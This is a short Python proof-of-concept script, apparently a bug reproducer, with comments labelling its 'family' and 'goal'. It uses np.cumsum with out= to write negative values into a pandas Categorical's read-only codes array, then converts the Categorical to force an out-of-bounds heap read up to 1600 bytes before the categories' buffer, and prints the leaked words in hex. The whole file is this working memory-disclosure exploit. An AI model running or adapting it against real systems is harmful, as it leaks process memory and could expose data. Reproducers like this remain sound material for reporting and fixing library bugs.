# source: numpy 1.24 cumulative ufunc out= ignores the WRITEABLE flag; pandas keeps index codes read-only and indexes with them unchecked (pandas/_libs take_1d); only -1 is the NA code
# family: write into a read-only array pandas trusts via np.cumsum(out=), with negative codes: reads BEFORE the categories' buffer
# goal: codes set to -200, -197, ... so np.asarray(c) reads int64 words up to 1600 bytes before the categories' data (heap memory out of bounds)
import numpy as np
import pandas as pd

c = pd.Categorical(list(range(1000, 1200)))
print("codes dtype:", c.codes.dtype, flush=True)
np.cumsum(np.array([-200] + [3] * 199, dtype=np.int16), out=c.codes)
vals = np.asarray(c)
print("codes after (first 8):", c.codes[:8].tolist(), flush=True)
print("words read before the buffer (nonzero, first 12):", [hex(int(x)) for x in vals[:66] if x != 0][:12], flush=True)
